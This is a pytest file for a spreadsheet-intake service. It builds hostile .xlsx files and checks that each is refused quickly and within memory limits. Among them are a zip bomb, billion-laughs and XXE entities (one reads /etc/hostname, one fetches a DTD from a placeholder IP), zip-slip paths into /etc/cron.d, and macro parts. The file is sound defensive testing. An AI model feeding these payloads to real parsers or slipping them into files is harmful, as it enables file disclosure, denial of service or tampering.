"""A hostile workbook is refused by name, quickly, and never takes the reading process along."""

import io
import resource
import time
import zipfile
from collections.abc import Callable

import pytest
import xlsxwriter

from api.intake import prescan, sheet
from domain.errors import Invalid
from tests.strategies_files import as_xlsx, good_table

SECONDS = 10
MEGABYTES = 150

SHEET = "xl/worksheets/sheet1.xml"
BODY = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


def plain() -> bytes:
    return as_xlsx(("表", [["企业名称", "x"], ["y", "z"]]))


def rebuilt(changes: dict[str, bytes | None], *, extra: int = 0) -> bytes:
    """Return a good workbook with some parts replaced, added or (None) taken away."""
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain())) as old, zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, content in changes.items():
            if content is not None:
                new.writestr(name, content)
        for number in range(extra):
            new.writestr(f"xl/media/{number}.png", b"")
    return result.getvalue()


def far_corner() -> bytes:
    return rebuilt({SHEET: BODY.format('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>').encode()})


def far_corner_in_single_quotes() -> bytes:
    return rebuilt({SHEET: BODY.format("<row><c t='n' r = 'XFD1048576'><v>1</v></c></row>").encode()})


def far_corner_with_a_prefix() -> bytes:
    body = BODY.format('<x:row r="1048576"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>')
    return rebuilt({SHEET: body.replace("<worksheet xmlns", "<worksheet xmlns:x").encode()})


def bomb() -> bytes:
    return rebuilt({"docProps/custom.xml": b"<x>" + b" " * (60 << 20) + b"</x>"})


def enormous_cell() -> bytes:
    noise = "".join(f"{number:07d}" for number in range(900_000))
    return rebuilt({SHEET: BODY.format(f'<row r="1"><c r="A1" t="str"><v>{noise}</v></c></row>').encode()})


def billion_laughs() -> bytes:
    declared = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    return rebuilt({SHEET: (declared + BODY.format("<row><c><v>&b;</v></c></row>")).encode()})


def external_entity() -> bytes:
    declared = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'
    return rebuilt({"xl/sharedStrings.xml": (declared + "<sst><si><t>&a;</t></si></sst>").encode()})


def wide_declaration() -> bytes:
    return rebuilt({SHEET: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []>'.encode("utf-16")})


def parameter_entity() -> bytes:
    declared = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % a SYSTEM "http://198.51.100.7/x.dtd"> %a;]>'
    return rebuilt({"xl/workbook.xml": (declared + "<workbook/>").encode()})


def split_declaration() -> bytes:
    return rebuilt({SHEET: b" " * ((1 << 20) - 5) + b"<!DOCTYPE x []>" + BODY.format("").encode()})


def declaration_in_ebcdic() -> bytes:
    return rebuilt({SHEET: '<?xml version="1.0" encoding="cp037"?><!DOCTYPE x []><worksheet/>'.encode("cp037")})


def declaration_in_utf_7() -> bytes:
    return rebuilt({SHEET: b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x []+AD4-<worksheet/>'})


def declaration_in_utf_32() -> bytes:
    return rebuilt({SHEET: "<!DOCTYPE x []><worksheet/>".encode("utf-32-be")})


def macros_announced() -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain())) as archive:
        types = archive.read("[Content_Types].xml")
    wanted = types.replace(
        b"openxmlformats-officedocument.spreadsheetml.sheet.main", b"ms-excel.sheet.macroEnabled.main"
    )
    return rebuilt({"[Content_Types].xml": wanted})


def external_link() -> bytes:
    return rebuilt({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"})


def data_connection() -> bytes:
    return rebuilt({"xl/connections.xml": b"<connections/>"})


def absolute_path() -> bytes:
    return rebuilt({"/etc/cron.d/x": b"* * * * *"})


def path_of_windows() -> bytes:
    return rebuilt({"..\\..\\x.exe": b"MZ"})


def macro() -> bytes:
    return rebuilt({"xl/vbaProject.bin": b"Attribute VB_Name"})


def encrypted_member() -> bytes:
    content = bytearray(plain())
    for start in range(len(content) - 4):
        if content[start : start + 4] == b"PK\x01\x02":
            content[start + 8] |= 1
    return bytes(content)


def encrypted_workbook() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"EncryptedPackage".ljust(2_000, b"\0")


def too_many_members() -> bytes:
    return rebuilt({}, extra=prescan.MAX_MEMBERS + 1)


def climbing_path() -> bytes:
    return rebuilt({"../../etc/cron.d/x": b"* * * * *"})


def cut_short() -> bytes:
    return plain()[:-200]


def damaged_stream() -> bytes:
    content = bytearray(plain())
    content[60:400] = b"\xff" * 340
    return bytes(content)


def some_other_archive() -> bytes:
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return result.getvalue()


def broken_xml() -> bytes:
    return rebuilt({SHEET: b"<worksheet><sheetData><row><c r='A1'><v>1</sheetData>"})


HOSTILE: tuple[tuple[Callable[[], bytes], str], ...] = (
    (far_corner, "workbook-too-wide"),
    (far_corner_in_single_quotes, "workbook-too-wide"),
    (far_corner_with_a_prefix, "workbook-too-wide"),
    (bomb, "workbook-inflates"),
    (enormous_cell, "workbook-cell"),
    (billion_laughs, "workbook-declarations"),
    (external_entity, "workbook-declarations"),
    (wide_declaration, "workbook-declarations"),
    (parameter_entity, "workbook-declarations"),
    (split_declaration, "workbook-declarations"),
    (declaration_in_ebcdic, "workbook-declarations"),
    (declaration_in_utf_7, "workbook-declarations"),
    (declaration_in_utf_32, "workbook-declarations"),
    (macros_announced, "workbook-macro"),
    (external_link, "workbook-macro"),
    (data_connection, "workbook-macro"),
    (absolute_path, "workbook-paths"),
    (path_of_windows, "workbook-paths"),
    (macro, "workbook-macro"),
    (encrypted_member, "workbook-encrypted"),
    (encrypted_workbook, "workbook-old-or-encrypted"),
    (too_many_members, "workbook-members"),
    (climbing_path, "workbook-paths"),
    (cut_short, "workbook-broken"),
    (damaged_stream, "workbook-broken"),
    (some_other_archive, "not-a-workbook"),
    (broken_xml, "workbook-broken"),
)


@pytest.mark.parametrize(("make", "code"), HOSTILE, ids=lambda value: getattr(value, "__name__", ""))
def test_p30_p31_a_hostile_workbook_is_refused_in_time_and_space(make: Callable[[], bytes], code: str) -> None:
    content = make()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()

    with pytest.raises(Invalid) as caught:
        sheet.sheets(sheet.accept("表.xlsx", content))

    assert (caught.value.faults[0].where, caught.value.faults[0].code) == ("表.xlsx", code)
    assert time.monotonic() - started < SECONDS
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < MEGABYTES << 10
    assert sheet.sheets(sheet.accept("表.xlsx", plain()))[0].lines[1].cells == ("y", "z")


def test_what_the_first_look_lets_through_still_cannot_end_the_parent(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(prescan, "refusal", lambda file: None)

    with pytest.raises(Invalid) as caught:
        sheet.sheets(sheet.accept("表.xlsx", far_corner()))

    assert caught.value.faults[0].code == "workbook-too-heavy"


def test_a_reader_that_does_not_end_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheet, "WALL_SECONDS", 0.001)

    with pytest.raises(Invalid) as caught:
        sheet.sheets(sheet.accept("表.xlsx", plain()))

    assert caught.value.faults[0].code == "workbook-too-heavy"


def test_an_honest_workbook_with_pictures_comments_and_lists_is_read() -> None:
    from api.intake.reading import Subject, read

    content = io.BytesIO()
    with xlsxwriter.Workbook(content) as book:
        page = book.add_worksheet("企业")
        for number, row in enumerate(good_table(Subject.FIRMS, 50)):
            page.write_row(number, 0, row)
        page.write_comment(0, 0, "请填写")
        page.data_validation(1, 1, 2_000, 1, {"validate": "list", "source": ["是", "否"]})
        page.autofilter(0, 0, 50, 8)

    reading = read(Subject.FIRMS, sheet.accept("企业.xlsx", content.getvalue()))

    assert (len(reading.drafts), reading.faults) == (50, ())
